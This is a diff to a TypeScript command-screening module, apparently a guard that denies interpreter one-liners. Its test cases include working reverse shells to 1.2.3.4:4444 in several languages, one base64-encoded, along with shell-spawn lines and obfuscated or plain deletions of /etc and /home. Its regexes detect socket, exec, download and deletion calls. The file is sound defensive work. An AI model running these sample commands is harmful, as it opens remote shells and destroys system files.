@@ -1,7 +1,7 @@
 import { deleteRule, homeOf, isPersonal, readRule, writeRule } from "./paths.ts";
 import { base64Text } from "./programs.ts";
 import { type Call, rules } from "./rules/rule.ts";
-import { escapes, isKnown, squeezed, UNKNOWN } from "./words.ts";
+import { escapes, FETCHED, isKnown, squeezed, UNKNOWN } from "./words.ts";
 
 /** What the one-liners of interpreters may be doing. */
 export const codeRules = {
@@ -13,8 +13,15 @@ export const codeRules = {
 				`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
 				`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("1.2.3.4")));exec("/bin/sh -i")'`,
 				`php -r '$s=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3");'`,
+				`elixir -e '{:ok,s}=:gen_tcp.connect(~c"1.2.3.4",4444,[]);{:ok,c}=:gen_tcp.recv(s,0);:gen_tcp.send(s,:os.cmd(c))'`,
+				`deno run -A - <<< 'const c=await Deno.connect({hostname:"1.2.3.4",port:4444});new Deno.Command("/bin/sh",{stdin:"piped"}).spawn()'`,
+				`php -r 'eval(base64_decode("JHM9ZnNvY2tvcGVuKCIxLjIuMy40Iiw0NDQ0KTtwcm9jX29wZW4oIi9iaW4vc2ggLWkiLFskcywkcywkc10sJHApOw=="));'`,
 			],
-			pass: ["python3 -c 'import socket; print(socket.gethostname())'", `node -e 'console.log(require("net").isIP("1.2.3.4"))'`],
+			pass: [
+				"python3 -c 'import socket; print(socket.gethostname())'",
+				`node -e 'require("net").createServer(s => s.pipe(s)).listen(7000)'`,
+				`node -e 'console.log(require("net").isIP("1.2.3.4"))'`,
+			],
 		},
 		"code-run-downloaded": {
 			verdict: "deny",
@@ -41,11 +48,13 @@ export const codeRules = {
 			reason: "a program text whose purpose is to start a shell",
 			match: [
 				`python3 -c 'import pty; pty.spawn("/bin/bash")'`,
+				`swipl -g "shell('sh -i')" -t halt`,
 				`perl -e 'exec "/bin/sh";'`,
 				`ruby -e 'exec "/bin/sh"'`,
 				`lua -e 'os.execute("/bin/sh")'`,
+				`PERL5OPT=-d PERL5DB='exec "/bin/sh"' perl x.pl`,
 			],
-			pass: [`python3 -c 'print("/bin/sh")'`],
+			pass: [`python3 -c 'print("/bin/sh")'`, `python3 -c 'import subprocess; subprocess.run(["bash", "-c", "make test"])'`],
 		},
 	}),
 	...rules("kill", {
@@ -65,6 +74,12 @@ export const codeRules = {
 		},
 	}),
 	...rules("unresolved", {
+		"code-hidden": {
+			verdict: "deny",
+			reason: "a program text that unpacks another one out of itself and runs it: nobody hides what may be read",
+			match: [`python3 -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode("eJwljEEKwjAQAO95RchpF8I2KSpW8THZPPp7n=")))'`],
+			pass: [`python3 -c 'import zlib,base64;print(zlib.decompress(base64.b64decode("eJwljEEKwjAQAO95RchpF8I2KSpW8THZ")))'`],
+		},
 		"code-unresolved": {
 			verdict: "ask",
 			reason: "a program text that runs a command or code that it puts together first",
@@ -77,7 +92,11 @@ export const codeRules = {
 		"code-deletes": {
 			verdict: "deny",
 			reason: "a program text that deletes or overwrites what lies outside the work directory",
-			match: [`python3 -c 'import shutil; shutil.rmtree("/home")'`, `node -e 'require("fs").rmSync("/etc",{recursive:true})'`],
+			match: [
+				`python3 -c 'exec("".join(map(chr,[105,109,112,111,114,116,32,115,104,117,116,105,108,59,115,104,117,116,105,108,46,114,109,116,114,101,101,40,34,47,101,116,99,34,41])))'`,
+				`python3 -c 'import shutil; shutil.rmtree("/home")'`,
+				`node -e 'require("fs").rmSync("/etc",{recursive:true})'`,
+			],
 			pass: [`python3 -c 'import shutil; shutil.rmtree("build")'`, `node -e 'require("fs").rmSync("dist",{recursive:true})'`],
 		},
 	}),
@@ -86,27 +105,24 @@ export const codeRules = {
 const MAX_CODE = 65_536;
 const MAX_LITERALS = 256;
 
-/** Names after which a language runs a program. */
-const RUNS =
-	/\b(system|exec[lv]?[pe]{0,2}|spawn[lv]?[pe]{0,2}|popen[234]?|posix_spawnp?|check_output|check_call|getoutput|getstatusoutput|subprocess|Popen|os\.startfile|pty|shell_exec|passthru|proc_open|pcntl_exec|child_process|execSync|execFile|execFileSync|spawnSync|fork|execute|Runtime|ProcessBuilder|ProcessImpl|IO\.popen|io\.popen|Open3|Kernel|PTY|syscall|do shell script|shell-command|call-process|start-process|make-process|term|ansi-term|startProcess|Deno|Bun|Command|forkpty|ffi|ctypes|os\.execute|uv\.spawn|run-shell-command|sh:run|os:cmd|open_port|open|system2|shell|Process|primitive-fork|execle|runInteractiveCommand|callCommand|rawSystem|sys\.process)\b|%x[^A-Za-z0-9\s]|`[^`]{1,4096}`|\bsh\s*->|\|\s*getline|\|&|\|\s*"/;
-/** The same, sure to be a call; `open`, `Process` and the like stand in every second text. */
+/** Calls that run a program, whatever the language. */
 const RUNS_SURELY =
-	/\b(system|system2|exec[lv][pe]{0,2}|spawn[lv]?[pe]{0,2}|popen[234]?|posix_spawnp?|check_output|check_call|getoutput|getstatusoutput|Popen|shell_exec|passthru|proc_open|pcntl_exec|execSync|execFile|execFileSync|spawnSync|callCommand|callProcess|rawSystem|shell-command(-to-string)?|call-process|start-process|make-process|forkpty|run-shell-command|startProcess|os:cmd)\b\s{0,8}[(\s"'`[]|\bexec\s{0,4}[("'`\s]|\bsubprocess\b|\bimport\s{1,4}(os|pty|commands|popen2)\s{1,4}as\b|\bfrom\s{1,4}(os|pty|commands)\s{1,4}import\b|\bProcess\s{0,2}(\.|::)\s{0,2}(new|run|start|spawn|exec)|\besyscmd\b|\bpty\s{0,4}\.\s{0,4}spawn|\bchild_process\b|getRuntime|\bProcessBuilder\b|\bos\.execute\b|\bio\.popen\b|\bIO\.popen\b|\bKernel\.|\bOpen3\b|\bsyscall\b|\bDeno\.(run|Command)|\bBun\.(spawn|\$)|exec\.Command|%x[^A-Za-z0-9\s]|\bansi-term\b|\(term\b|\bos\.startfile\b|\bopen\s{0,4}\(?[^;]{0,80}["']\s{0,4}\||\|\s{0,4}["'][^"']{0,200}["']\s{0,4}\)|\|\s{0,4}getline|\|&|\bforeign import\b|\bctypes\b|\.execute\(\s{0,4}\)|\bdl\.|\bloadlib\b|primitive-fork/;
+	/\b(system|system2|exec[lv][pe]{0,2}|spawn[lv]?[pe]{0,2}|popen[234]?|posix_spawnp?|check_output|check_call|getoutput|getstatusoutput|Popen|shell_exec|passthru|proc_open|pcntl_exec|execSync|execFile|execFileSync|spawnSync|callCommand|callProcess|rawSystem|shell-command(-to-string)?|call-process|start-process|make-process|forkpty|run-shell-command|startProcess|os:cmd)\b\s{0,8}[(\s"'`[]|\bexec\s{0,4}[("'`\s]|\bsubprocess\b|\bimport\s{1,4}(os|pty|commands|popen2)\s{1,4}as\b|\bfrom\s{1,4}(os|pty|commands)\s{1,4}import\b|\bProcess\s{0,2}(\.|::)\s{0,2}(new|run|start|spawn|exec)|\besyscmd\b|\bpty\s{0,4}\.\s{0,4}spawn|\bchild_process\b|getRuntime|\bProcessBuilder\b|\bos\.execute\b|\bio\.popen\b|\bIO\.popen\b|\bKernel\.|\bOpen3\b|\bsyscall\b|\bDeno\.(run|Command)|\bBun\.(spawn|\$)|exec\.Command|\bprocess\.binding\b|\bSystem\.(cmd|shell|process)\b|\bSys\.command\b|\bUnix\.(system|execvp?e?|open_process\w{0,8})\b|\bCommand::new\b|:os\.cmd\b|\bexec(Cmd(Ex)?|Process|ShellCmd)\s{0,2}\(|%x[^A-Za-z0-9\s]|\bansi-term\b|\(term\b|\bos\.startfile\b|\bopen\s{0,4}\(?[^;]{0,80}["']\s{0,4}\||\|\s{0,4}["'][^"']{0,200}["']\s{0,4}\)|\|\s{0,4}getline|\|&|\bforeign import\b|\bctypes\b|\.execute\(\s{0,4}\)|\bdl\.|\bloadlib\b|primitive-fork/;
 const TALKS =
-	/\b(socket|Socket|TCPSocket|TCPServer|UNIXSocket|fsockopen|pfsockopen|stream_socket_client|socket_create|IO::Socket|INET|sockaddr_in|net\.(connect|createConnection|Socket|createServer|Dial|Listen)|createConnection|TcpStream|TcpClient|luasocket|connect|gen_tcp|\/inet\/(tcp|udp)|java\.net|ServerSocket|NetCat|XMLHTTP|websocket)\b|\/inet\/(tcp|udp)|require\(['"](node:)?(net|tls|dgram)['"]\)|net\.Socket/;
+	/\b(socket|Socket|TCPSocket|TCPServer|UNIXSocket|newSocket|newAsyncSocket|INETSocket|socketConnection|TCPClient|SocketChannel|usocket|make-network-process|open-network-stream|fsockopen|pfsockopen|stream_socket_client|socket_create|IO::Socket|INET|sockaddr_in|net\.(connect|createConnection|Socket|createServer|Dial|Listen)|createConnection|TcpStream|TcpClient|luasocket|connect|gen_tcp|\/inet\/(tcp|udp)|java\.net|ServerSocket|NetCat|XMLHTTP|websocket)\b|\/inet\/(tcp|udp)|\b(Deno|Bun)\.(connect|listen)|require\(['"](node:)?(net|tls|dgram)['"]\)|net\.Socket/;
 const FETCHES =
 	/socket\.http|['"](node:)?https?['"]\s{0,2}\)\s{0,2}\.\s{0,2}(get|request)|\b(urlopen|urlretrieve|requests\.get|http\.client|httplib|LWP|file_get_contents\s{0,4}\(\s{0,4}['"]https?|open-uri|URI\.open|Net::HTTP|https?\.get|fetch|wget|curl_exec|getstore|download|HttpClient|WebClient)\b/;
 const EVALUATES =
 	/(?<![\w.:]|->)(eval|exec|compile|__import__|execfile|assert|create_function|loadstring|load|Function|source|include|require_once)\s{0,4}[("'`$]|\beval\s{1,4}[\w.:]{1,32}\s{0,2}\(|\b(instance_eval|class_eval|runInThisContext|vm\.run|runpy)\s{0,4}[("'`$]/;
 const DECODES =
-	/\b(b64decode|base64|decode64|fromhex|unhexlify|atob|decode_base64|pack|unpack|gzinflate|str_rot13|rot13|codecs|zlib|marshal|chr|fromCharCode|Buffer\.from|hex2bin|MIME::Base64|bytes)\b/;
+	/\b(b64decode|base64\w{0,16}|decode64|fromhex|unhexlify|atob|decode_base64|pack|unpack|gzinflate|str_rot13|rot13|codecs|zlib|marshal|gzuncompress|gzdecode|decompress|Inflate|inflateSync|chr|fromCharCode|Buffer\.from|hex2bin|MIME::Base64|bytes)\b/;
 const LOADS = /\b(dlopen|CDLL|LoadLibrary|Fiddle|DynaLoader|dl_load_file|loadlib|ffi|dlsym|load_extension|System\.load)\b/;
 const SENDS =
 	/\b(requests\.(post|put|get|request)|urlopen|http\.client|https?['"]?\)?\.(request|get|post)|fetch|axios|Net::HTTP|LWP|curl_setopt|file_get_contents|sendall|urllib)\b/;
 const DELETES =
-	/\b(rmtree|rm_rf|rm_r|remove_entry|remove_dir|removeSync|rmSync|rmdirSync|unlinkSync|unlink|os\.remove|os\.unlink|os\.rmdir|os\.removedirs|FileUtils\.rm|File\.delete|Dir\.(delete|rmdir)|fs\.(rm|unlink|rmdir)|rimraf|remove_tree|rmdir|deleteRecursively|Files\.delete|truncate|delete-directory|delete-file)\b/;
+	/\b(rmtree|rm_rf|rm_r|remove_entry|remove_dir|removeSync|rmSync|rmdirSync|unlinkSync|unlink|os\.remove|os\.unlink|os\.rmdir|os\.removedirs|FileUtils\.rm|File\.delete|Dir\.(delete|rmdir)|fs\.(rm|unlink|rmdir)|rimraf|remove_tree|rmdir|deleteRecursively|RemoveAll|Deno\.remove|Remove-Item|remove_dir_all|Directory\.Delete|remove_all|array_map\(["']unlink|Files\.delete|truncate|delete-directory|delete-file)\b/;
 const WRITE_MODE =
-	/FileWriter|FileOutputStream|WriteFile|content =>|Out-File|Set-Content|Add-Content|["'](w|a|wb|ab|w\+|a\+|r\+|x)["']|writeFile|appendFile|write_text|write_bytes|file_put_contents|File\.write|IO\.write|copy|move|rename|symlink|["']>{1,2}|chmod|chown|>\s{0,4}["']\/|print\s{0,4}>|createWriteStream|>{1,2} \//;
+	/\bcp\s{0,2}\(|urlretrieve|FileWriter|FileOutputStream|WriteFile|content =>|Out-File|Set-Content|Add-Content|["'](w|a|wb|ab|w\+|a\+|r\+|x)["']|writeFile|appendFile|write_text|write_bytes|file_put_contents|File\.write|IO\.write|copy|move|rename|symlink|["']>{1,2}|chmod|chown|>\s{0,4}["']\/|print\s{0,4}>|createWriteStream|>{1,2} \//;
 const BECOMES =
 	/\b(setuid|setgid|setreuid|setresuid|seteuid|cap_set|setgroups|setresgid|\$<\s{0,2}=|\$>\s{0,2}=)\b|(\$<|\$>)\s{0,4}=\s{0,4}0|Process(::|\.)(UID|Sys)|\bos\.(chroot|setns|unshare)\b|\bsetsid\b.{0,200}\bdup2\b/;
 
@@ -114,7 +130,10 @@ const BECOMES =
 export function judgeCode(call: Call, language: string, source: string): void {
 	const text = withEnvironment(call, source.slice(0, MAX_CODE));
 	if (text.trim() === "") return;
-	if (!isKnown(text) && squeezed(text).trim() === "") return void call.hit(codeRules["code-unresolved"]);
+	if (!isKnown(text) && squeezed(text).trim() === "") {
+		if (text.includes(FETCHED)) call.runsFetched();
+		return void call.hit(codeRules["code-unresolved"]);
+	}
 	// `eval(STDIN.read)`: the rest of the program comes through the pipe.
 	if (/\b(STDIN|stdin)\b/.test(text) && EVALUATES.test(text) && call.stdin !== null && isKnown(call.stdin) && !text.includes(call.stdin))
 		return judgeCode(call, language, `${text}\n${call.stdin}`);
@@ -126,7 +145,12 @@ export function judgeCode(call: Call, language: string, source: string): void {
 	const hidden =
 		literals.some((literal) =>
 			/^(system|popen|exec[lv]?[pe]{0,2}|subprocess|child_process|os|pty|shell_exec|passthru)$/.test(literal.text),
-		) && /\b(getattr|__import__|import_module|require|send|call_user_func|globals|builtins|\$\w{1,16}\s{0,2}\()/.test(text);
+		) &&
+		/["']\s{0,2}\)\s{0,2}\(|\b(getattr|__import__|import_module|require|send|call_user_func|globals|builtins|\$\w{1,16}\s{0,2}\()/.test(
+			text,
+		);
+	if (/\b(send|public_send|__send__|method)\s{0,2}\(?\s{0,2}:(system|exec|spawn|popen|eval|instance_eval)\b/.test(text))
+		call.hit(codeRules["code-unresolved"]);
 	if (/\bkill\w{0,4}\s{0,4}\(?\s{0,4}["']?\w{0,8}["']?,?\s{0,4}-1\b/.test(text)) call.hit(codeRules["code-kills"]);
 	if (
 		/\bfork\b/.test(text) &&
@@ -149,16 +173,37 @@ export function judgeCode(call: Call, language: string, source: string): void {
 	)
 		call.hit(codeRules["code-sends-environment"]);
 	if (BECOMES.test(text)) call.hit(codeRules["code-setuid"]);
-	if (TALKS.test(text) && (runs || /\brun\(/.test(text) || /\bdup2\b|fdopen|STDIN|>&S|\.pipe\(|\bgetline\b|\bfork\b/.test(text)))
+	// `shell "sh"`, `"sh" run-process`: a call that languages have each in their own words, and the shell's name alone.
+	if (
+		!runs &&
+		/\b(shell|run-process|sys\.process|spawn|Process|Command)\b/.test(text) &&
+		literals.some((literal) => SHELL_ITSELF.test(literal.text))
+	)
+		call.hit(codeRules["code-shell"]);
+	if (/^(pwsh|powershell)$/.test(language) && TALKS.test(text) && /\b(iex|invoke-expression)\b/i.test(text))
+		call.hit(codeRules["code-reverse-shell"]);
+	if (TALKS.test(text) && (runs || /\brun\(/.test(text) || /\bdup2\b|fdopen|STDIN|>&S|\bgetline\b|\bfork\b/.test(text)))
 		call.hit(codeRules["code-reverse-shell"]);
 	const evaluates = EVALUATES.test(text);
 	if (evaluates && FETCHES.test(text)) call.hit(codeRules["code-run-downloaded"]);
 	if (runs || hidden) runsPrograms(call, language, text, literals);
 	else if (evaluates && (DECODES.test(text) || /\b(ARGV|argv|input|stdin|STDIN|ENV|environ|\$_(GET|POST|REQUEST))\b/.test(text)))
-		decodes(call, language, literals);
+		decodes(call, language, literals, text);
 	else if (evaluates && language !== "node")
-		for (const literal of literals) if (RUNS.test(literal.text) || EVALUATES.test(literal.text)) call.code(language, literal.text);
-	for (const { text: literal } of literals) {
+		for (const literal of literals) if (/\w\s{0,2}\(|^\s{0,4}import\b/.test(literal.text)) call.code(language, literal.text);
+	// `chdir("/etc")`: names without a path are found there.
+	const directory = /\bchdir\b/.test(text) ? literals.find((literal) => /^[/~]/.test(literal.text))?.text : undefined;
+	if (directory !== undefined)
+		for (const { text: name } of literals.slice(0, 32)) if (/^[\w.-]{2,64}$/.test(name)) call.reads(`${directory}/${name}`);
+	for (const content of modulesIn(call, language, text, literals)) call.code(language, content);
+	for (const { text: written } of literals) {
+		// `bytes.fromhex("2f65...")`: the path that it spells.
+		const spelt = /^[0-9a-fA-F]{12,512}$/.test(written)
+			? escapes(written.replace(/../g, "\\x$&"))
+			: /^[A-Za-z0-9+/]{12,512}={0,2}$/.test(written)
+				? (base64Text(written) ?? "")
+				: "";
+		const literal = DECODES.test(text) && /^[~/][!-~]{3,512}$/.test(spelt) ? spelt : written;
 		if (/(^|\/)\.env(\.\w{1,16})?$/.test(literal) && (SENDS.test(text) || TALKS.test(text))) call.hit(codeRules["code-sends-environment"]);
 		if (literal.length < 1 || literal.length > 4096) continue;
 		const path = literal
@@ -170,7 +215,7 @@ export function judgeCode(call: Call, language: string, source: string): void {
 		if (read) call.hit(read, path);
 		if ((SENDS.test(text) || TALKS.test(text)) && /^[/~]/.test(path) && path.length > 4 && isPersonal(path, call.place))
 			call.hit(codeRules["code-sends-environment"]);
-		if (DELETES.test(text)) {
+		if (DELETES.test(text) || (language === "julia" && /\brm\(/.test(text))) {
 			const rule = deleteRule(path, true, call.place);
 			if (rule) call.hit(rule.verdict === "deny" ? codeRules["code-deletes"] : rule, path);
 		}
@@ -183,25 +228,59 @@ export function judgeCode(call: Call, language: string, source: string): void {
 
 /** What a program reads from its environment, put in where this script has set it. */
 function withEnvironment(call: Call, text: string): string {
-	return text
-		.replace(
-			/\b(os\.homedir\(\)|(pathlib\.)?Path\.home\(\)|Dir\.home|homedir\(\))/g,
-			text.includes('\\"') ? `\\"${homeOf(call.place)}\\"` : `"${homeOf(call.place)}"`,
-		)
-		.replace(
-			/(?:os\.environ|ENV|process\.env|\$_ENV|%ENV)\s{0,2}(?:\[\s{0,2}|\.get\(\s{0,2}|\.)["']?([A-Za-z_]\w{0,63})["']?(?:\s{0,2}[\])])?|\$ENV\{["']?([A-Za-z_]\w{0,63})["']?\}|\$env:([A-Za-z_]\w{0,63})|(?:os\.)?getenv\(\s{0,2}["']([A-Za-z_]\w{0,63})["']\s{0,2}\)/g,
-			(whole, ...names: unknown[]) => {
-				const name = names.slice(0, 4).find((one) => typeof one === "string");
-				const value = name === "HOME" ? homeOf(call.place) : typeof name === "string" ? call.variable(name) : undefined;
-				return value === undefined ? whole : JSON.stringify(value);
-			},
-		);
+	return (
+		text
+			.replace(
+				/\b(os\.homedir\(\)|(pathlib\.)?Path\.home\(\)|Dir\.home|homedir\(\))/g,
+				text.includes('\\"') ? `\\"${homeOf(call.place)}\\"` : `"${homeOf(call.place)}"`,
+			)
+			.replace(
+				/(?:os\.environ|ENV|process\.env|\$_ENV|%ENV)\s{0,2}(?:\[\s{0,2}|\.get\(\s{0,2}|\.)["']?([A-Za-z_]\w{0,63})["']?(?:\s{0,2}[\])])?|\$ENV\{["']?([A-Za-z_]\w{0,63})["']?\}|\$env:([A-Za-z_]\w{0,63})|(?:os\.)?getenv\(\s{0,2}["']([A-Za-z_]\w{0,63})["']\s{0,2}\)/g,
+				(whole, ...names: unknown[]) => {
+					const name = names.slice(0, 4).find((one) => typeof one === "string");
+					const value = name === "HOME" ? homeOf(call.place) : typeof name === "string" ? call.variable(name) : undefined;
+					return value === undefined ? whole : JSON.stringify(value);
+				},
+			)
+			// Whatever the environment is called there: `e["X"]`, `GetEnvironmentVariable("X")`, `ENV.fetch("X")`.
+			.replace(
+				/\b[A-Za-z_][\w.:]{0,64}(?:\[|\(|\.get\(|\.fetch\()\s{0,2}["']([A-Z_][A-Z0-9_]{1,63})["']\s{0,2}[\])]/g,
+				(whole, name: string) => {
+					const value = call.variable(name);
+					return value === undefined ? whole : JSON.stringify(value);
+				},
+			)
+	);
+}
+
+/** What this script has written to the modules that a text loads from where it runs. */
+function modulesIn(call: Call, language: string, text: string, literals: readonly Literal[]): string[] {
+	if (call.via.length > 8) return [];
+	const names =
+		language === "python"
+			? [...text.slice(0, 4096).matchAll(/(?:^|[;\n])\s{0,16}(?:import|from)\s{1,4}(\w{1,64})/g)]
+					.slice(0, 16)
+					.flatMap(([, name]) => [`${name}.py`, `${name}/__init__.py`])
+					.concat("sitecustomize.py", "usercustomize.py")
+			: /\b(require|import|load|dofile)\b/.test(text)
+				? literals
+						.slice(0, 32)
+						.flatMap(({ text: name }) =>
+							/^\.{0,2}\/?[\w./-]{1,128}$/.test(name)
+								? [name, `${name}.js`, `${name}.rb`, `${name}.lua`, `${name}/index.js`, `node_modules/${name}/index.js`]
+								: [],
+						)
+				: [];
+	return names.flatMap((name) => call.file(name) ?? []).filter((content) => content !== text && isKnown(content));
 }
 
 /** A text that runs programs: the strings in it are the candidates. */
 function runsPrograms(call: Call, language: string, text: string, literals: readonly Literal[]): void {
 	let some = false;
+	// `["bash", "-c", "make"]`: the shell is only what runs the rest.
+	const taken = new Set<string>();
 	for (const run of literalRuns(text, literals)) {
+		if (run.length > 2 && SHELL_ITSELF.test(run[0] ?? "") && /^-[a-z]{0,4}c$/.test(run[1] ?? "")) taken.add(run[0] ?? "");
 		if (run.length > 1) {
 			some = true;
 			// A path twice, `execl("/bin/sh", "sh", "-c", ...)`: the second is only the name that the program is given.
@@ -213,6 +292,7 @@ function runsPrograms(call: Call, language: string, text: string, literals: read
 	for (const literal of literals) {
 		const script = literal.text.trim();
 		if (script === "" || /^[-%\\,.:;=+ ]{1,8}$/.test(script)) continue;
+		if (taken.has(script)) continue;
 		if (SHELL_ITSELF.test(script) || /^\S{0,16}\/sh -p?c \$@\|sh/.test(script)) {
 			some = true;
 			call.hit(codeRules["code-shell"], script);
@@ -234,7 +314,7 @@ function runsPrograms(call: Call, language: string, text: string, literals: read
 		)
 			call.hit(codeRules["code-unresolved"], text);
 	}
-	if (DECODES.test(text)) decodes(call, language, literals);
+	if (DECODES.test(text)) decodes(call, language, literals, text);
 }
 
 const SHELL_ITSELF =
@@ -245,9 +325,25 @@ const looksLikeCommand = (text: string): boolean =>
 	!/^(utf-?8|r|w|rb|wb|a|ascii|latin-1|hex|base64|__main__|BEGIN|END)$/i.test(text) &&
 	!/^[A-Z][a-z]{1,32}( [a-z]{1,32}){0,8}[:.!]/.test(text);
 
+/** What is packed so that its text says nothing. */
+const UNPACKS = /\b(decompress|gzinflate|gzuncompress|gzdecode|inflateSync|gunzipSync|Inflate|marshal|zlib)\b/;
+
 /** Strings that may be encoded programs. */
-function decodes(call: Call, language: string, literals: readonly Literal[]): void {
+function decodes(call: Call, language: string, literals: readonly Literal[], source: string): void {
 	let some = false;
+	// `map(chr, [105, 109, ...])`: characters by their numbers.
+	for (const list of source.match(/\d{1,3}(?:\s{0,2},\s{0,2}\d{1,3}){7,4096}/g)?.slice(0, 8) ?? []) {
+		const plain = list
+			.split(",")
+			.map((number) => String.fromCharCode(Number(number)))
+			.join("");
+		if (!/^[\s!-~]{4,}$/.test(plain)) continue;
+		some = true;
+		call.code(language, plain);
+		if (looksLikeCommand(plain)) call.maybe(plain, language);
+	}
+	if (UNPACKS.test(source) && literals.some(({ text }) => /^[A-Za-z0-9+/=_-]{32,}$/.test(text) || /[\x80-\uFFFF]/.test(text)))
+		call.hit(codeRules["code-hidden"]);
 	for (const { text } of literals) {
 		if (!/^[A-Za-z0-9+/=_-]{8,}$/.test(text)) continue;
 		const plain = /^[0-9a-fA-F]{8,}$/.test(text) && text.length % 2 === 0 ? escapes(text.replace(/../g, "\\x$&")) : base64Text(text);
@@ -275,6 +371,13 @@ function literalsOf(text: string, language: string): Literal[] {
 		const character = text.charAt(index);
 		if (character === "\\") {
 			index += 2;
+			continue;
+		}
+		// `</home/*>`: a pattern's files.
+		const pattern = language === "perl" && character === "<" ? /^<([~/][^<>\n]{1,256})>/.exec(text.slice(index, index + 260)) : null;
+		if (pattern) {
+			found.push({ text: pattern[1] ?? "", start: index, end: index + pattern[0].length, code: false });
+			index += pattern[0].length;
 			continue;
 		}
 		const bracket =
@@ -315,13 +418,65 @@ function literalsOf(text: string, language: string): Literal[] {
 	return joinedLiterals(text, found);
 }
 
+/** A string as it is after what its text says is done with it: read backwards, or moved by thirteen letters. */
+function turned(text: string, literal: Literal): Literal {
+	const before = text.slice(Math.max(0, literal.start - 16), literal.start);
+	const after = text.slice(literal.end, literal.end + 32);
+	if (/^\s{0,2}(\[::-1\]|\.reverse\b|\.split\(["']{2}\)\.reverse)/.test(after) || /\b(strrev|reverse)\s{0,2}\(?\s{0,2}$/.test(before))
+		return { ...literal, text: [...literal.text].reverse().join("") };
+	if (/rot_?13/.test(after) || /rot_?13\(\s{0,2}$/.test(before))
+		return {
+			...literal,
+			text: literal.text.replace(/[a-z]/gi, (letter) => {
+				const base = letter <= "Z" ? 65 : 97;
+				return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
+			}),
+		};
+	return literal;
+}
+
+/** `join("/etc", "shadow")`, `Path("/etc") / "shadow"`, `Path.home()/".ssh"/"id_rsa"`. */
+function isPathJoin(text: string, last: Literal, next: Literal): boolean {
+	const between = text.slice(last.end, next.start);
+	if (/^\s{0,2}\)?\s{0,2}\/\s{0,2}$/.test(between)) return true;
+	return (
+		/^\s{0,4},\s{0,4}$/.test(between) && /\b(join|resolve)\s{0,2}\(\s{0,4}$/.test(text.slice(Math.max(0, last.start - 16), last.start))
+	);
+}
+
 /** `"r" + "m"`, `"r" . "m"`, `"r" "m"` are one string. */
 function joinedLiterals(text: string, literals: readonly Literal[]): Literal[] {
 	const joined: Literal[] = [];
-	for (const literal of literals) {
+	/** What the last one does with those that follow it in a list: `"%s/%s" % (...)`, `" ".join([...])`. */
+	let takes: "%s" | "{}" | { glue: string; first: boolean } | undefined;
+	for (const given of literals) {
+		const literal = turned(text, given);
 		const last = joined.at(-1);
+		const between = last ? text.slice(last.end, Math.min(literal.start, last.end + 32)) : "";
+		if (/^\s{0,2}%\s{0,2}\(?\s{0,2}$/.test(between)) takes = "%s";
+		else if (/^\s{0,2}\.format\(\s{0,2}$/.test(between)) takes = "{}";
+		else if (last && /^\s{0,2}\.join\(\s{0,2}[[(]\s{0,2}$/.test(between)) takes = { glue: last.text, first: true };
+		else if (!/^\s{0,4},\s{0,4}$/.test(between)) takes = undefined;
+		if (last && takes !== undefined && (typeof takes !== "string" || last.text.includes(takes))) {
+			const whole: string =
+				typeof takes === "string"
+					? last.text.replace(takes, () => literal.text)
+					: takes.first
+						? literal.text
+						: last.text + takes.glue + literal.text;
+			if (typeof takes !== "string") takes.first = false;
+			joined[joined.length - 1] = { text: whole, start: last.start, end: literal.end, code: last.code };
+			continue;
+		}
 		if (last && literal.start - last.end <= 8 && /^\s{0,4}[+.]{1,2}\s{0,4}$/.test(text.slice(last.end, literal.start))) {
 			joined[joined.length - 1] = { text: last.text + literal.text, start: last.start, end: literal.end, code: last.code };
+		} else if (last && literal.start - last.end <= 8 && isPathJoin(text, last, literal)) {
+			joined[joined.length - 1] = {
+				text: `${last.text.replace(/\/$/, "")}/${literal.text}`,
+				start: last.start,
+				end: literal.end,
+				code: false,
+			};
 		} else joined.push(literal);
 	}
 	return joined;
@@ -334,7 +489,13 @@ function literalRuns(text: string, literals: readonly Literal[]): string[][] {
 	let end = -1;
 	for (const literal of literals) {
 		const between = end < 0 ? "" : text.slice(end, Math.min(literal.start, end + 80));
-		if (run.length > 0 && /^\s{0,8},\s{0,8}\[?\s{0,8}$/.test(between)) run.push(literal.text);
+		// `["rm", "-rf"]`, `Command::new("rm").arg("-rf")`
+		if (
+			run.length > 0 &&
+			(/^\s{0,8},\s{0,8}(\{\s{0,4}args\s{0,4}:\s{0,4})?\[?\s{0,8}$|^\s{0,4}\]\s{0,4}\+\s{0,4}\[\s{0,4}$/.test(between) ||
+				/^\s{0,4}\)\s{0,8}\.args?\(\s{0,4}&?\[?\s{0,4}$/.test(between))
+		)
+			run.push(literal.text);
 		else if (run.length > 0 && /^\s{0,8},\s{0,8}[A-Za-z_$][\w.$[\]()]{0,40}\s{0,8},\s{0,8}$/.test(between)) run.push(UNKNOWN, literal.text);
 		else {
 			if (run.length > 0) runs.push(run);
